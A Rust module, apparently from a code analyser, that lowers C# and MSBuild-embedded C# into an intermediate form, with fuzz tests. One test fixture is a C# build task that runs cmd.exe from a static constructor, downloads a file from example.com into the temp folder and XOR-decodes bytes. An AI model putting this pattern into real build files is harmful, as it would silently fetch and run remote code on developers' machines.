//! C#, over tree-sitter-c-sharp; and the C# and commands inside MSBuild files.
//!
//! What the interpreter sees: `A.B.c` are members of the name `A` (`using`
//! only shortens names, so catalogues list types without their namespace);
//! `new T(…)` is a call with `construct`, and its `{ P = v }` assigns members;
//! static constructors, `Main`, module initializers and `Execute` of build
//! tasks are called.

mod expr;
mod member;
mod stmt;

use rustc_hash::FxHashSet;

use super::tree::{Lowering, children};
use crate::ir::{Language, Unit};

/// Lowers a file.
pub(crate) fn lower(source: &str) -> Unit {
    let (l, tree) = Lowering::parse(
        Language::CSharp,
        &tree_sitter_c_sharp::LANGUAGE.into(),
        source,
    );
    let Some(tree) = tree else {
        return l.b.finish(Vec::new());
    };
    let mut sharp = CSharp {
        l,
        classes: Vec::new(),
        started: Vec::new(),
    };
    let mut body = Vec::new();
    sharp.statements(children(tree.root_node()), &mut body);
    let mut started = std::mem::take(&mut sharp.started);
    body.append(&mut started);
    sharp.l.b.finish(body)
}

struct CSharp<'s> {
    l: Lowering<'s>,
    /// Members of the classes being read, innermost last.
    classes: Vec<Members>,
    /// Calls of what the runtime starts by itself.
    started: Vec<crate::ir::Stmt>,
}

#[derive(Default)]
struct Members {
    name: String,
    own: FxHashSet<String>,
    instance: FxHashSet<String>,
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::lower;

    const SAMPLE: &str = r#"
using System; namespace N { public class T : Task {
  static string U = "http://example.com";
  static T() { Process.Start("cmd.exe", "/c x"); }
  public override bool Execute() {
    var p = new ProcessStartInfo { FileName = "a", Arguments = $"-enc {U}" };
    using (var c = new WebClient()) { c.DownloadFile(U + "/x", Path.GetTempPath()); }
    for (int i = 0; i < 3; i++) { b[i] ^= 3; } foreach (var x in b) { F(x); }
    try { A(); } catch (Exception e) { B(); } finally { C(); }
    switch (s) { case "a": D(); break; default: break; } return x ? 1 : 2;
  } } }
"#;

    proptest! {
        #[test]
        fn any_text_is_read(text in "\\PC*") {
            lower(&text);
        }

        #[test]
        fn a_cut_file_is_read(start in 0..SAMPLE.len(), end in 0..SAMPLE.len()) {
            if let Some(text) = SAMPLE.get(start.min(end)..start.max(end)) {
                lower(text);
            }
        }
    }

    #[test]
    fn deep_nesting_ends() {
        for open in ["class A {", "(", "[", "{", "f(", "if (a) ", "x => ", "$\"{"] {
            lower(&open.repeat(10_000));
        }
    }
}
